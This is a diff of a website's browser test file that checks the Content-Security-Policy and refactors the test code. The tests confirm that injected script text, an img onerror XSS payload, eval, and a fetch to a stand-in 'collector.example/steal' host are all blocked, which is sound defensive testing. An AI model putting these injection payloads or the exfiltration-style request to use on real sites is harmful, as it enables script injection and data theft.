@@ -1,19 +1,15 @@
 import { resolveMail, SAME_ORIGIN } from '../../config/mail.ts';
 import { site } from '../../config/site.ts';
-import { expect, hydrated, paths, test } from './site.ts';
+import { expect, open, paths, test } from './site.ts';
 
 /** Where the owner's settings have the pages fetch from or send to, beside this server. */
 const { origin: mailOrigin } = resolveMail(process.env);
 const outside = [
   ...(mailOrigin === SAME_ORIGIN ? [] : [new URL(mailOrigin).origin]),
-  ...(site.analytics === null
-    ? []
-    : [new URL(site.analytics.scriptUrl).origin, ...site.analytics.sendsTo]),
+  ...(site.analytics === null ? [] : [new URL(site.analytics.scriptUrl).origin, ...site.analytics.sendsTo]),
 ];
 
-test('every page carries a policy of its own, in the header and in the page', async ({
-  request,
-}) => {
+test('every page carries a policy of its own, in the header and in the page', async ({ request }) => {
   for (const path of paths) {
     const response = await request.get(path);
     const header = response.headers()['content-security-policy'] ?? '';
@@ -24,21 +20,15 @@ test('every page carries a policy of its own, in the header and in the page', as
     for (const [origin] of header.matchAll(/https?:\/\/[^\s;]+/g)) {
       expect(outside, path).toContain(origin);
     }
-    const inPage = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(
-      await response.text(),
-    );
+    const inPage = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(await response.text());
     const text = inPage?.[1]?.replaceAll('&apos;', "'").replaceAll('&#39;', "'");
     expect(text, path).toBe(header.replace("frame-ancestors 'none'; ", ''));
   }
 });
 
-test('what somebody slips into a page does not run, load or send', async ({
-  page,
-  allowConsole,
-}) => {
+test('what somebody slips into a page does not run, load or send', async ({ page, allowConsole }) => {
   allowConsole(/Content Security Policy|TrustedHTML|TrustedScript|Trusted Type/);
-  await page.goto('/');
-  await hydrated(page);
+  await open(page, '/');
   const title = await page.title();
   const outcome = await page.evaluate(async () => {
     const violated: string[] = [];
@@ -46,29 +36,24 @@ test('what somebody slips into a page does not run, load or send', async ({
       violated.push(event.effectiveDirective);
     });
     const script = document.createElement('script');
-    let refusedText = false;
-    try {
+    const isRefused = (act: () => void) => {
+      try {
+        act();
+        return false;
+      } catch {
+        return true;
+      }
+    };
+    const refusedText = isRefused(() => {
       script.text = 'document.title = "injected"';
-    } catch {
-      refusedText = true;
-    }
-    let refusedHtml = false;
-    try {
+    });
+    const refusedHtml = isRefused(() => {
       document.body.innerHTML += '<img src="x" onerror="document.title = \'injected\'">';
-    } catch {
-      refusedHtml = true;
-    }
+    });
     // Later, because what the test itself evaluates stands above the page's policy.
     const refusedEval = await new Promise<boolean>((resolve) => {
-      setTimeout(() => {
-        try {
-          // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested.
-          eval('document.title = "injected"');
-          resolve(false);
-        } catch {
-          resolve(true);
-        }
-      });
+      // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested.
+      setTimeout(() => resolve(isRefused(() => eval('document.title = "injected"'))));
     });
     const sent = await fetch('https://collector.example/steal').then(
       () => true,
